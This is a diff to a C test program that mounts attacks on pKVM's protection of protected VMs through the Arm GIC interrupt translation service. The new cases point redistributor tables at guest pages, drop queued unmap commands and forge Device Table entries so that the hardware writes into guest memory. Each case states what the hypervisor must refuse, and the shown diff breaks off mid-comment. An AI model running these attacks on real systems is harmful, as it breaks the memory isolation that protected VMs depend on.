@@ -33,7 +33,11 @@
  *   ATTACK <name> kernel=<base|series> gic=<3|4> mode=<hvhe|nvhe> result=<r>
  *
  * where <r> is "landed" if the victim's canary changed, the victim could no
- * longer run, or the system broke in one of the ways checked above; "blocked"
+ * longer run, or the system broke in one of the ways checked above, or, for a
+ * case whose last step needs kernel code, if the case saw the hypervisor's own
+ * records disagree with the state of the ITS (a "divergence:" line), or, for a
+ * case whose harm only shows on hardware, if the GIC took an access or a
+ * command that the hypervisor must refuse (an "unchecked:" line); "blocked"
  * if the attack was carried out and neither happened; "n/a" (followed by the
  * reason on a comment line) if this GIC cannot express the attack. The KTAP
  * result of a case is "ok" whenever it could classify the attack, "not ok"
@@ -41,7 +45,8 @@
  *
  * kernel= and mode= come from --kernel/--mode, or else from the kernel
  * command line: pkvmits.kernel=<name>, and nVHE if arm64_sw.hvhe=0 is given.
- * Cases are selected with -t <name> (repeatable, or comma separated), all by
+ * Cases are selected with -t <name> (repeatable, or comma separated), else
+ * with pkvmits.attack=<name>[,<name>...] on the kernel command line, all by
  * default; -l lists them.
  *
  * Sending ITS commands behind the host driver's back. The driver owns the
@@ -75,14 +80,17 @@
 #include <time.h>
 #include <unistd.h>
 
+#include <linux/align.h>
 #include <linux/bitfield.h>
 #include <linux/sizes.h>
 
-#include "gic_v3.h"
 #include "kvm_util.h"
+#include "gic.h"
+#include "gic_v3.h"
 #include "processor.h"
 #include "test_util.h"
 #include "ucall.h"
+#include "vgic.h"
 
 /* QEMU "virt" machine, used when the devicetree does not tell */
 #define VIRT_GICD_BASE		0x08000000ULL
@@ -116,11 +124,16 @@
 #define GICR_PENDBASER_ADDR	GENMASK_ULL(51, 16)
 #define GICR_PENDBASER_PTZ	BIT_ULL(62)
 #define GICR_PROPBASER_ID_BITS	GENMASK_ULL(4, 0)
+#define GICR_PROPBASER_ADDR	GENMASK_ULL(51, 12)
+#define GICR_VPENDBASER_ADDR	GENMASK_ULL(51, 16)
+#define GICR_VPENDBASER_VALID	BIT_ULL(63)
+#define GICR_VLPI_BASE		SZ_128K
 #define GICR_FRAME_V3		SZ_128K
 #define GICR_FRAME_V4		SZ_256K
 #define MAX_RD			64
 
 #define INTID_NONE		1023
+#define LPI_BASE		8192
 
 /* QEMU's Device Table entry (IMPLEMENTATION DEFINED) */
 #define QEMU_DTE_VALID		BIT_ULL(0)
@@ -260,28 +273,42 @@ static void *map_phys(u64 pa, size_t len)
 	return p + (pa - base);
 }
 
+/*
+ * Accesses to what the hypervisor may emulate: one plain load or store each.
+ * The compiler could fold the address arithmetic of a READ_ONCE() into a load
+ * with writeback, which leaves no syndrome (ESR_ELx.ISV = 0) to emulate it by:
+ * the access would be refused for how it was encoded, not for what it does.
+ */
 static u32 rd32(void *base, u64 off)
 {
-	return READ_ONCE(*(u32 *)(base + off));
+	u32 val = __raw_readl(base + off);
+
+	barrier();
+	return val;
 }
 
 static u64 rd64(void *base, u64 off)
 {
-	return READ_ONCE(*(u64 *)(base + off));
+	u64 val = __raw_readq(base + off);
+
+	barrier();
+	return val;
 }
 
 static void wr32(void *base, u64 off, u32 val)
 {
 	/* Order earlier stores (e.g. to the command queue) before the register write. */
 	dsb(sy);
-	WRITE_ONCE(*(u32 *)(base + off), val);
+	__raw_writel(val, base + off);
+	barrier();
 }
 
 static void wr64(void *base, u64 off, u64 val)
 {
 	/* As in wr32() */
 	dsb(sy);
-	WRITE_ONCE(*(u64 *)(base + off), val);
+	__raw_writeq(val, base + off);
+	barrier();
 }
 
 static u64 now_us(void)
@@ -557,6 +584,8 @@ struct case_result {
 	int denied;		/* signal a host access raised */
 	int its_failed;		/* the ITS did not complete commands */
 	int donation_refused;
+	int diverged;		/* the hypervisor's records and the ITS disagree */
+	int unchecked;		/* the GIC took what the hypervisor must refuse */
 	u64 bad, first, val;
 	char reason[256];
 };
@@ -1309,9 +1338,10 @@ static void attack_cbaser_foreign_queue(void *arg)
 #define RECYCLE_KEY		"host_mmio_recycles "
 
 static ssize_t read_file(const char *path, void *buf, size_t len);
+static int write_file(const char *path, const char *val);
 
-/* The hypervisor's count of host MMIO recycles, -1 if it does not report one. */
-static long long host_mmio_recycles(void)
+/* A count the hypervisor reports in debugfs (first ITS), -1 if it does not. */
+static long long its_stat(const char *key)
 {
 	char buf[4096], *p;
 	ssize_t n = read_file(RECYCLE_STATS, buf, sizeof(buf) - 1);
@@ -1319,8 +1349,14 @@ static long long host_mmio_recycles(void)
 	if (n <= 0)
 		return -1;
 	buf[n] = 0;
-	p = strstr(buf, RECYCLE_KEY);
-	return p ? strtoll(p + strlen(RECYCLE_KEY), NULL, 10) : -1;
+	p = strstr(buf, key);
+	return p ? strtoll(p + strlen(key), NULL, 10) : -1;
+}
+
+/* The hypervisor's count of host MMIO recycles, -1 if it does not report one. */
+static long long host_mmio_recycles(void)
+{
+	return its_stat(RECYCLE_KEY);
 }
 
 static void read_word(void *arg)
@@ -1401,7 +1437,7 @@ static void store64(void *arg)
 {
 	struct store64 *st = arg;
 
-	WRITE_ONCE(*st->addr, st->val);
+	wr64(st->addr, 0, st->val);
 }
 
 /*
@@ -1482,6 +1518,156 @@ static void attack_gicv4_vpt_in_pvm(void *arg)
 }
 
 /*
+ * Attack: vlpi_vpendbaser_in_pvm
+ *
+ * GICv4.0 only. Each redistributor has a VLPI_base frame (RD_base + 128 KiB):
+ * GICR_VPENDBASER names the virtual pending table of the vPE resident on that
+ * CPU, GICR_VPROPBASER the vLPI configuration table. In protected mode KVM
+ * does not use GICv4, and the frame stays the host's. The host points
+ * GICR_VPROPBASER at a page of its own with every vLPI enabled at the highest
+ * priority, and GICR_VPENDBASER, Valid, at a page of the pVM that starts a
+ * 64 KiB block: the canary there reads as pending vLPIs. Then it runs the vCPU
+ * of an ordinary VM on that CPU, whose guest reads ICV_IAR1_EL1: the CPU
+ * interface acknowledges the highest pending vLPI, and the redistributor
+ * clears its bit, in the guest's page. The guest first makes an SGI pending,
+ * so that KVM enables the virtual CPU interface (ICH_HCR_EL2.En).
+ *
+ * The hypervisor must own the VLPI_base frame of every redistributor, like
+ * GICR_PROPBASER and GICR_PENDBASER, and refuse host writes to it.
+ */
+#define VLPI_ID_BITS		14	/* vINTIDs 8192..16383: bytes 1024..2047 */
+#define VLPI_SGI		1
+#define VLPI_MAX_ACKS		16
+#define VLPI_PROP		(LPI_PROP_GROUP1 | LPI_PROP_ENABLED)	/* priority 0 */
+
+static void vlpi_guest(void)
+{
+	u32 intid = IAR_SPURIOUS, first = 0, acked = 0, i;
+
+	gic_init(GIC_V3, 1);
+	gic_irq_enable(VLPI_SGI);
+	/* A trapped write: KVM then puts the SGI in a list register. */
+	gic_irq_set_pending(VLPI_SGI);
+
+	for (i = 0; i < VLPI_MAX_ACKS; i++) {
+		intid = gic_get_and_ack_irq();
+		if (intid == IAR_SPURIOUS)
+			break;
+		gic_set_eoi(intid);
+		if (intid < LPI_BASE)
+			break;
+		if (!acked++)
+			first = intid;
+	}
+
+	GUEST_SYNC_ARGS(0, acked, first, intid, 0);
+	GUEST_DONE();
+}
+
+/* A host page for the vLPI configuration, followed by another if possible */
+static u64 vlpi_prop_table(struct attack_ctx *c)
+{
+	int i, j;
+
+	for (i = 1; i < NR_HOST_PAGES; i++) {
+		for (j = 1; j < NR_HOST_PAGES; j++) {
+			if (c->host_pa[j] != c->host_pa[i] + getpagesize())
+				continue;
+			memset(c->host + i * getpagesize(), VLPI_PROP, getpagesize());
+			memset(c->host + j * getpagesize(), VLPI_PROP, getpagesize());
+			return c->host_pa[i];
+		}
+	}
+	ksft_print_msg("no two adjacent host pages: vINTIDs 12288 and up get random settings\n");
+	memset(c->host + getpagesize(), VLPI_PROP, getpagesize());
+	return c->host_pa[1];
+}
+
+static void attack_vlpi_vpendbaser_in_pvm(void *arg)
+{
+	struct attack_ctx *c = arg;
+	u64 vprop_saved, vpend_saved, prop;
+	cpu_set_t set, saved;
+	struct kvm_vcpu *vcpu;
+	struct kvm_vm *vm;
+	struct ucall uc;
+	int i, p, cpu;
+	void *vlpi;
+
+	if (gic.version < 4 || !gic.rd[0] || !(rd64(gic.rd[0], GICR_TYPER) & GICR_TYPER_VLPIS)) {
+		case_set(c, CASE_NA, "GICv%d: no VLPI_base frame (GICR_TYPER.VLPIS=0)",
+			 gic.version);
+		return;
+	}
+	if (gic.v41) {
+		case_set(c, CASE_NA, "GICv4.1: GICR_VPENDBASER names a vPE, not a table");
+		return;
+	}
+
+	for (p = 0; p < NR_TARGET; p++)
+		if (page_in(c->v.touch[0], p) && !(c->v.pa[p] & (SZ_64K - 1)))
+			break;
+	if (p == NR_TARGET) {
+		case_set(c, CASE_NA, "no guest page at a 64 KiB boundary");
+		return;
+	}
+
+	/* The last CPU this process can run on */
+	TEST_ASSERT(!sched_getaffinity(0, sizeof(saved), &saved), "sched_getaffinity()");
+	for (cpu = gic.nr_rd - 1; cpu >= 0; cpu--) {
+		CPU_ZERO(&set);
+		CPU_SET(gic.rd_cpu[cpu], &set);
+		if (!sched_setaffinity(0, sizeof(set), &set))
+			break;
+	}
+	if (cpu < 0) {
+		case_set(c, CASE_ERROR, "cannot run on the CPU of any redistributor");
+		return;
+	}
+
+	vlpi = gic.rd[cpu] + GICR_VLPI_BASE;
+	vprop_saved = rd64(vlpi, GICR_VPROPBASER);
+	vpend_saved = rd64(vlpi, GICR_VPENDBASER);
+	if (vpend_saved & GICR_VPENDBASER_VALID) {
+		case_set(c, CASE_NA, "a vPE is resident on CPU %u", gic.rd_cpu[cpu]);
+		goto out;
+	}
+
+	prop = vlpi_prop_table(c);
+	wr64(vlpi, GICR_VPROPBASER, prop | (VLPI_ID_BITS - 1));
+	wr64(vlpi, GICR_VPENDBASER, (c->v.pa[p] & GICR_VPENDBASER_ADDR) | GICR_VPENDBASER_VALID);
+	ksft_print_msg("CPU %u: GICR_VPROPBASER 0x%lx, GICR_VPENDBASER 0x%lx (guest page %d)\n",
+		       gic.rd_cpu[cpu], rd64(vlpi, GICR_VPROPBASER), rd64(vlpi, GICR_VPENDBASER),
+		       p);
+
+	vm = vm_create_with_one_vcpu(&vcpu, vlpi_guest);
+	vgic_v3_setup(vm, 1, 64);
+	vcpu_run(vcpu);
+	switch (get_ucall(vcpu, &uc)) {
+	case UCALL_SYNC:
+		ksft_print_msg("a VM on CPU %u acknowledged %lu vLPIs: first %lu, last INTID %lu\n",
+			       gic.rd_cpu[cpu], uc.args[2], uc.args[3], uc.args[4]);
+		break;
+	case UCALL_ABORT:
+		ksft_print_msg("vLPI guest: assert at line %lu: %s\n", uc.args[GUEST_LINE],
+			       uc.buffer);
+		break;
+	default:
+		ksft_print_msg("vLPI guest: unexpected exit %s\n",
+			       exit_reason_str(vcpu->run->exit_reason));
+	}
+	kvm_vm_free(vm);
+
+	/* Valid back to 0: the redistributor lets go of the guest's page. */
+	wr64(vlpi, GICR_VPENDBASER, vpend_saved);
+	wr64(vlpi, GICR_VPROPBASER, vprop_saved);
+	for (i = 0; i < NR_HOST_PAGES; i++)
+		memset(c->host + i * getpagesize(), 0, getpagesize());
+out:
+	sched_setaffinity(0, sizeof(saved), &saved);
+}
+
+/*
  * Attack: pendbaser_in_pvm
  *
  * The host points GICR_PENDBASER of a redistributor, which QEMU accepts while
@@ -1542,6 +1728,449 @@ static void attack_pendbaser_in_pvm(void *arg)
 	cmd_mapd(&cmd[1], c->devid, 0, 0, false);
 	cmd_mapc(&cmd[2], gic.my_icid, 0, false);
 	its_send(c, cmd, 3);
+}
+
+/*
+ * Attack: late_rdist
+ *
+ * A redistributor whose CPU was offline when the hypervisor took the ITS over
+ * never had its LPI tables programmed (booted with maxcpus=1, pKVM then
+ * refuses to start CPU1 at all). The host programs them: GICR_PROPBASER as
+ * CPU0's, GICR_PENDBASER at the 64 KiB block holding a page of the pVM, and
+ * sets GICR_CTLR.EnableLPIs; then it maps a collection to that redistributor
+ * and fires an LPI on it (MAPTI, INT; GICR_SETLPIR too if the redistributor
+ * has direct LPI injection): the redistributor sets the LPI's pending bit in
+ * the guest's page. When every redistributor had LPIs enabled at boot, the
+ * case is n/a.
+ *
+ * The hypervisor must take every redistributor at handover, its CPU online or
+ * not, and either program its LPI tables itself, with memory it owns, or
+ * refuse host writes to its GICR_CTLR.EnableLPIs, GICR_PROPBASER and
+ * GICR_PENDBASER, and MAPC to it.
+ */
+static void attack_late_rdist(void *arg)
+{
+	struct attack_ctx *c = arg;
+	u64 table, prop, prop_saved, pend_saved, target;
+	struct its_cmd cmd[4];
+	u32 intid, limit, ctlr;
+	void *rd;
+	int i, p;
+
+	for (i = 0; i < gic.nr_rd; i++)
+		if (!(rd32(gic.rd[i], GICR_CTLR) & GICR_CTLR_ENABLE_LPIS))
+			break;
+	if (i == gic.nr_rd) {
+		case_set(c, CASE_NA, "LPIs on in all %d redistributors (maxcpus=1 leaves one out)",
+			 gic.nr_rd);
+		return;
+	}
+	rd = gic.rd[i];
+
+	prop = rd64(gic.rd[0], GICR_PROPBASER);
+	limit = min_t(u32, gic.lpi_limit, BIT(FIELD_GET(GICR_PROPBASER_ID_BITS, prop) + 1));
+	p = pick_pending_page(c, limit, &table, &intid);
+	if (p < 0) {
+		case_set(c, CASE_NA, "no guest page in the first 8 KiB of a 64 KiB block");
+		return;
+	}
+
+	ctlr = rd32(rd, GICR_CTLR);
+	prop_saved = rd64(rd, GICR_PROPBASER);
+	pend_saved = rd64(rd, GICR_PENDBASER);
+	wr64(rd, GICR_PROPBASER, prop);
+	c->pendbaser_saved = pend_saved;
+	c->pendbaser_rd = rd;
+	wr64(rd, GICR_PENDBASER, (rd64(gic.rd[0], GICR_PENDBASER) &
+				  ~(GICR_PENDBASER_ADDR | GICR_PENDBASER_PTZ)) | table);
+	wr32(rd, GICR_CTLR, ctlr | GICR_CTLR_ENABLE_LPIS);
+	ksft_print_msg("redistributor %d (CPU %u) had LPIs off: GICR_CTLR 0x%x, GICR_TYPER 0x%lx\n",
+		       i, gic.rd_cpu[i], rd32(rd, GICR_CTLR), rd64(rd, GICR_TYPER));
+	ksft_print_msg("GICR_PROPBASER 0x%lx, GICR_PENDBASER 0x%lx\n", rd64(rd, GICR_PROPBASER),
+		       rd64(rd, GICR_PENDBASER));
+	ksft_print_msg("LPI %u -> byte 0x%lx in guest page %d\n", intid, table + intid / 8, p);
+
+	/* With direct LPI injection the redistributor needs no ITS command. */
+	if (rd64(rd, GICR_TYPER) & GICR_TYPER_DirectLPIS)
+		wr64(rd, GICR_SETLPIR, intid);
+
+	target = gic.pta ? gic.rd_pa[i] >> 16 : gic.rd_cpu[i];
+	cmd_mapc(&cmd[0], gic.my_icid, target, true);
+	cmd_mapd(&cmd[1], c->devid, c->host_pa[0], 0, true);
+	cmd_mapti(&cmd[2], c->devid, 0, intid, gic.my_icid);
+	cmd_event(&cmd[3], GITS_CMD_INT, c->devid, 0);
+	if (!its_send(c, cmd, 4)) {
+		/* No DISCARD: it would clear the bit in the guest again. */
+		cmd_mapd(&cmd[0], c->devid, 0, 0, false);
+		cmd_mapc(&cmd[1], gic.my_icid, 0, false);
+		its_send(c, cmd, 2);
+	}
+
+	wr32(rd, GICR_CTLR, ctlr);
+	wr64(rd, GICR_PENDBASER, pend_saved);
+	wr64(rd, GICR_PROPBASER, prop_saved);
+	c->pendbaser_rd = NULL;
+}
+
+/*
+ * ITT space the hypervisor accepts. A hypervisor may let the ITS write only
+ * pages that the host's ITS driver claimed for ITTs. A root user finds one by
+ * rebinding the virtio-rng PCI function: the driver maps the device again,
+ * and its MAPD, with the ITT address, shows in the command queue. The driver
+ * takes small ITTs from the start of pool pages; the cases use the end of the
+ * page, where it is unused (zero).
+ */
+#define RNG_DRIVER		"/sys/bus/virtio/drivers/virtio_rng"
+#define VIRTIO_PCI_DRIVER	"/sys/bus/pci/drivers/virtio-pci"
+#define RNG_QUALITY		"/sys/class/misc/hw_random/rng_quality"
+
+/* The PCI function of the virtio-rng device, as "0000:00:02.0" */
+static int rng_pci_function(char *bdf, size_t len)
+{
+	char path[PATH_MAX], real[PATH_MAX], *p;
+	DIR *dir = opendir(RNG_DRIVER);
+	struct dirent *d;
+	int found = 0;
+
+	while (dir && !found && (d = readdir(dir))) {
+		snprintf(path, sizeof(path), "%s/%s", RNG_DRIVER, d->d_name);
+		if (strncmp(d->d_name, "virtio", 6) || !realpath(path, real))
+			continue;
+		/* .../0000:00:02.0/virtio1 */
+		p = strrchr(real, '/');
+		*p = 0;
+		p = strrchr(real, '/');
+		snprintf(bdf, len, "%s", p + 1);
+		found = 1;
+	}
+	if (dir)
+		closedir(dir);
+	return found;
+}
+
+/* The ITT address in the driver's MAPD for the rebound function, 0 if none */
+static u64 driver_itt(void)
+{
+	u64 *cmd, itt = 0;
+	u32 from, to, s;
+	char bdf[64];
+
+	if (!rng_pci_function(bdf, sizeof(bdf)) || its_wait_idle(&from))
+		return 0;
+	write_file(VIRTIO_PCI_DRIVER "/unbind", bdf);
+	write_file(VIRTIO_PCI_DRIVER "/bind", bdf);
+	/* As main() does, for the new device */
+	write_file(RNG_QUALITY, "0\n");
+	if (its_wait_idle(&to))
+		return 0;
+
+	for (s = from; s != to; s = (s + 1) % gic.cq_slots) {
+		cmd = gic.cq + s * (ITS_CMD_SIZE / sizeof(u64));
+		if ((READ_ONCE(cmd[0]) & 0xff) == GITS_CMD_MAPD &&
+		    (READ_ONCE(cmd[2]) & BIT_ULL(63)))
+			itt = READ_ONCE(cmd[2]) & GENMASK_ULL(51, 8);
+	}
+	ksft_print_msg("rebound %s: the driver's MAPD has ITT 0x%lx\n", bdf, itt);
+	return itt;
+}
+
+/* @len bytes for ITTs, in a page of the driver's ITTs if possible */
+static u64 itt_space(struct attack_ctx *c, u32 len)
+{
+	u64 itt = driver_itt(), page = itt & ~(u64)(SZ_4K - 1), off;
+	u8 *p = itt ? map_phys(page, SZ_4K) : NULL;
+	u32 i;
+
+	for (off = SZ_4K - ALIGN(len, 256); p && off > (itt & (SZ_4K - 1)); off -= 256) {
+		for (i = 0; i < len && !READ_ONCE(p[off + i]); i++)
+			;
+		if (i == len)
+			return page + off;
+	}
+	ksft_print_msg("no free space next to the driver's ITTs: ITT in a page of the host\n");
+	return c->host_pa[1];
+}
+
+/*
+ * Attack: cbaser_reset_drops_unmap
+ *
+ * Writing GITS_CBASER resets GITS_CREADR to 0: commands queued but not yet
+ * executed are dropped. The host maps device A with its ITT in page T of the
+ * pVM's memslot that the guest has not touched yet, and device B with its
+ * ITT at P, next to one of the driver's ITTs. It disables the ITS, queues
+ * MAPD V=0 for both, writes GITS_CBASER with the value it holds, enables the
+ * ITS again and brings the queue back to where the driver expects it: the
+ * ITS never ran the unmaps. A is still mapped to T: the guest takes T, and
+ * MAPTI for A writes an ITE into it.
+ *
+ * A hypervisor that releases an ITT once GITS_CREADR has moved past its
+ * MAPD V=0 counts dropped commands as executed: it forgets A and B, and
+ * drops its pins on T and P while the Device Table still names them. If it
+ * only accepts ITTs in pages the driver claimed, T is refused to begin with;
+ * the host then drops a MAPD V=1 for B (ITT at Q) the same way, so that the
+ * hypervisor believes B's ITT is Q while the ITS still uses P: MAPTI for B,
+ * checked against Q, writes its ITE at P. Were P's page released to the
+ * host and given to a pVM, the ITE would land in the pVM; only the kernel
+ * releases ITT pages (__pkvm_its_release_itt), and the driver never does for
+ * a page of its ITT pool, so the case reports that divergence instead.
+ *
+ * The hypervisor must refuse a GITS_CBASER write while commands are queued
+ * (or hand them to the ITS again), and only count a command as executed
+ * when the ITS has executed it.
+ */
+
+/*
+ * Queue @cmds with the ITS disabled and drop them with a GITS_CBASER write.
+ * False if the write was refused: the ITS then runs them.
+ */
+static bool queue_drop(struct attack_ctx *c, const struct its_cmd *cmds, u32 n)
+{
+	u32 q = gic.cq_slots, w, i;
+	struct store64 st;
+
+	if (its_wait_idle(&w)) {
+		c->res->its_failed = -EBUSY;
+		return false;
+	}
+	its_disable(c);
+	for (i = 0; i < n; i++)
+		queue_put(w + i, &cmds[i]);
+	wr32(gic.its, GITS_CWRITER, ((w + n) % q) * ITS_CMD_SIZE);
+
+	c->cbaser_saved = rd64(gic.its, GITS_CBASER);
+	c->cq_slot_saved = w;
+	c->cbaser_changed = 1;
+	st.addr = gic.its + GITS_CBASER;
+	st.val = c->cbaser_saved;
+	if (!guarded(store64, &st)) {
+		ksft_print_msg("GITS_CBASER written, %u commands queued: GITS_CREADR %u -> %u\n", n,
+			       w, queue_slot(rd32(gic.its, GITS_CREADR)));
+		its_restore(c);
+		return true;
+	}
+
+	ksft_print_msg("GITS_CBASER write refused with %u commands queued\n", n);
+	c->cbaser_changed = 0;
+	its_enable(c);
+	wr32(gic.its, GITS_CWRITER, ((w + n) % q) * ITS_CMD_SIZE);
+	if (its_wait_read((w + n) % q) || its_sync_to((w + n) % q, w))
+		c->res->its_failed = -EIO;
+	return false;
+}
+
+/* Whether the @len bytes at @pa are all zero, through /dev/mem */
+static bool phys_zero(u64 pa, u32 len)
+{
+	u8 *p = map_phys(pa, len);
+	u32 i;
+
+	TEST_ASSERT(p, "Cannot map 0x%lx", pa);
+	for (i = 0; i < len && !READ_ONCE(p[i]); i++)
+		;
+	return i == len;
+}
+
+static void attack_cbaser_reset_drops_unmap(void *arg)
+{
+	struct attack_ctx *c = arg;
+	u64 t = c->v.pa[LATE_PAGE], p = itt_space(c, 512), q = p + 256;
+	u32 dev_a = c->devid, dev_b = c->devid - 1;
+	struct its_cmd cmd[3];
+	bool at_p, at_q;
+
+	cmd_mapd(&cmd[0], dev_a, t, 0, true);
+	cmd_mapd(&cmd[1], dev_b, p, 0, true);
+	if (its_send(c, cmd, 2))
+		return;
+
+	cmd_mapd(&cmd[0], dev_a, 0, 0, false);
+	cmd_mapd(&cmd[1], dev_b, 0, 0, false);
+	queue_drop(c, cmd, 2);
+
+	cmd_mapd(&cmd[0], dev_b, q, 0, true);
+	queue_drop(c, cmd, 1);
+
+	cmd_mapti(&cmd[0], dev_b, 0, c->lpi, 0);
+	if (its_send(c, cmd, 1))
+		goto unmap;
+	at_p = !phys_zero(p, gic.ite_size);
+	at_q = !phys_zero(q, gic.ite_size);
+	if (at_p && !at_q) {
+		/* Only a hypervisor that polices the ITS has records to disagree. */
+		c->res->diverged = its_stat("refused ") >= 0;
+		ksft_print_msg("%sMAPTI for B wrote its ITE at 0x%lx, the ITT of a MAPD V=1\n",
+			       c->res->diverged ? "divergence: " : "", p);
+		ksft_print_msg("whose V=0 was dropped, not at 0x%lx, the ITT of the last one\n", q);
+	} else {
+		ksft_print_msg("MAPTI for B: ITE %s at 0x%lx, %s at 0x%lx\n",
+			       at_p ? "found" : "none", p, at_q ? "found" : "none", q);
+	}
+
+	if (victim_donate(c))
+		goto unmap;
+	if (c->v.pa[LATE_PAGE] != t) {
+		case_set(c, CASE_NA, "the page moved when the guest took it");
+		goto unmap;
+	}
+	cmd_mapti(&cmd[0], dev_a, 0, c->lpi, 0);
+	its_send(c, cmd, 1);
+unmap:
+	/* DISCARD zeroes B's ITE again, wherever the ITS keeps it. */
+	cmd_event(&cmd[0], GITS_CMD_DISCARD, dev_b, 0);
+	cmd_mapd(&cmd[1], dev_b, 0, 0, false);
+	cmd_mapd(&cmd[2], dev_a, 0, 0, false);
+	its_send(c, cmd, 3);
+}
+
+/*
+ * Attack: pendtable_as_l2
+ *
+ * A redistributor's LPI pending table is memory the GIC writes. Offered as a
+ * level-2 page of the Device Table, it gives the host Device Table entries
+ * that it can rewrite through the redistributor, whoever owns the page. The
+ * host reads CPU0's pending table address from GICR_PENDBASER and writes it,
+ * with Valid, into an unused level-1 entry of the Device Table. It maps a
+ * device whose entry falls at byte offset o >= 1024 of that page (8-byte
+ * entries on QEMU): the ITS writes the entry into the pending table, over
+ * the pending bits of LPIs 8o..8o+63. The host maps those 64 LPIs to the
+ * events of a helper device, on a collection of CPU0, disabled in the LPI
+ * property table so that no CPU takes them, and rewrites the entry bit by bit
+ * with INT (set) and CLEAR (clear), until its ITT address is a page of the
+ * pVM. MAPTI for the forged device then writes an ITE into the guest.
+ *
+ * The hypervisor must own the LPI pending tables, and refuse them, like any
+ * memory a device writes, as level-2 pages.
+ */
+#define DTE_BITS		64
+
+static void load64(void *arg)
+{
+	struct store64 *st = arg;
+
+	st->val = rd64(st->addr, 0);
+}
+
+static void attack_pendtable_as_l2(void *arg)
+{
+	struct attack_ctx *c = arg;
+	struct its_table *t = &gic.dt;
+	u64 epp = t->psz / t->esz, nr_l1, *l1, pend_pa, want, itt_h, itt_d;
+	u32 helper = c->devid, helper_len = ALIGN(DTE_BITS * gic.ite_size, 256);
+	u32 devid, lpi, o, n = 0;
+	struct its_cmd cmd[DTE_BITS + 8];
+	struct store64 st;
+	u8 *pend, *prop;
+	int u = -1, i;
+
+	if (!gic.qemu || t->esz != 8) {
+		case_set(c, CASE_NA, "unknown Device Table entry format (IMPLEMENTATION DEFINED)");
+		return;
+	}
+	if (!t->indirect) {
+		case_set(c, CASE_NA, "the Device Table is flat");
+		return;
+	}
+
+	pend_pa = rd64(gic.rd[0], GICR_PENDBASER) & GICR_PENDBASER_ADDR;
+	pend = map_phys(pend_pa, SZ_64K);
+	prop = map_phys(rd64(gic.rd[0], GICR_PROPBASER) & GICR_PROPBASER_ADDR,
+			gic.lpi_limit - LPI_BASE);
+	l1 = map_phys(t->pa, t->size);
+	TEST_ASSERT(pend && prop && l1, "Cannot map the LPI tables or the level-1 Device Table");
+
+	nr_l1 = min_t(u64, t->size / 8, DIV_ROUND_UP(BIT_ULL(gic.dev_bits), epp));
+	for (i = nr_l1 - 1; i >= 0 && u < 0; i--)
+		if (!rd64(l1, i * sizeof(*l1)))
+			u = i;
+	if (u < 0) {
+		case_set(c, CASE_NA, "no unused level-1 Device Table entry");
+		return;
+	}
+
+	/*
+	 * An entry over 64 LPIs that are not pending and disabled, half way up
+	 * the LPI range: away from the driver's LPIs and the cases' (the top).
+	 */
+	o = ALIGN_DOWN(min_t(u64, gic.lpi_limit / 8, t->psz) / 2, 8);
+	for (; o >= LPI_BASE / 8; o -= 8) {
+		for (i = 0; i < 8 && !READ_ONCE(pend[o + i]); i++)
+			;
+		if (i < 8)
+			continue;
+		for (i = 0; i < DTE_BITS; i++)
+			if (READ_ONCE(prop[o * 8 - LPI_BASE + i]) & LPI_PROP_ENABLED)
+				break;
+		if (i == DTE_BITS)
+			break;
+	}
+	if (o < LPI_BASE / 8) {
+		case_set(c, CASE_NA, "no Device Table entry over 64 free LPIs");
+		return;
+	}
+	lpi = o * 8;
+	devid = u * epp + o / t->esz;
+	itt_h = itt_space(c, helper_len + 256);
+	itt_d = itt_h + helper_len;
+
+	c->l1e_saved = 0;
+	c->l1e = &l1[u];
+	st.addr = &l1[u];
+	st.val = GITS_L1E_VALID | pend_pa;
+	if (guarded(store64, &st)) {
+		ksft_print_msg("level-1 entry %d: pending table 0x%lx refused\n", u, pend_pa);
+		c->l1e = NULL;
+		return;
+	}
+	ksft_print_msg("level-1 entry %d -> CPU0's pending table 0x%lx (reads back 0x%lx)\n", u,
+		       pend_pa, rd64(l1, u * sizeof(*l1)));
+	ksft_print_msg("DeviceID 0x%x: entry at +0x%x, over LPIs %u-%u\n", devid, o, lpi,
+		       lpi + DTE_BITS - 1);
+
+	cmd_mapc(&cmd[n++], gic.my_icid, gic.rd0_target, true);
+	/* Size: EventID bits - 1 */
+	cmd_mapd(&cmd[n++], helper, itt_h, fls(DTE_BITS - 1) - 1, true);
+	for (i = 0; i < DTE_BITS; i++)
+		cmd_mapti(&cmd[n++], helper, i, lpi + i, gic.my_icid);
+	cmd_mapd(&cmd[n++], devid, itt_d, 0, true);
+	if (its_send(c, cmd, n))
+		goto out;
+
+	/* What the ITS wrote; a hypervisor that took the page hides it. */
+	st.addr = (u64 *)(pend + o);
+	st.val = QEMU_DTE_VALID | FIELD_PREP(QEMU_DTE_ITT, itt_d >> 8);
+	if (guarded(load64, &st))
+		ksft_print_msg("the pending table is no longer readable: entry 0x%lx assumed\n",
+			       st.val);
+	else
+		ksft_print_msg("Device Table entry in the pending table: 0x%lx\n", st.val);
+
+	want = QEMU_DTE_VALID | FIELD_PREP(QEMU_DTE_ITT, c->v.pa[TARGET_PAGE] >> 8);
+	for (n = 0, i = 0; i < DTE_BITS; i++)
+		if ((st.val ^ want) & BIT_ULL(i))
+			cmd_event(&cmd[n++], want & BIT_ULL(i) ? GITS_CMD_INT : GITS_CMD_CLEAR,
+				  helper, i);
+	if (its_send(c, cmd, n))
+		goto out;
+	if (!guarded(load64, &st))
+		ksft_print_msg("forged entry 0x%lx, wanted 0x%lx\n", st.val, want);
+
+	cmd_mapti(&cmd[0], devid, 0, c->lpi, 0);
+	its_send(c, cmd, 1);
+out:
+	/* MAPD V=0 writes an invalid, all-zero, entry: no LPI is left pending. */
+	n = 0;
+	cmd_mapd(&cmd[n++], devid, 0, 0, false);
+	for (i = 0; i < DTE_BITS; i++)
+		cmd_event(&cmd[n++], GITS_CMD_DISCARD, helper, i);
+	cmd_mapd(&cmd[n++], helper, 0, 0, false);
+	cmd_mapc(&cmd[n++], gic.my_icid, 0, false);
+	its_send(c, cmd, n);
+
+	st.addr = &l1[u];
+	st.val = 0;
+	if (guarded(store64, &st))
+		ksft_print_msg("level-1 entry %d could not be cleared again\n", u);
+	c->l1e = NULL;
 }
 
 struct hammer {
@@ -1678,6 +2307,214 @@ static void attack_malformed_regs(void *arg)
 	}
 }
 
+/*
+ * Attack: el2_unchecked_access
+ *
+ * The host accesses the ITS control frame and the redistributors' RD_base
+ * frame (and VLPI_base, with GICv4) at offsets and widths that the GIC does
+ * not define there: GITS_MPIDR, a 32-bit register, read as 64 bits; reserved
+ * words of the ITS written; reserved or IMPLEMENTATION DEFINED words of
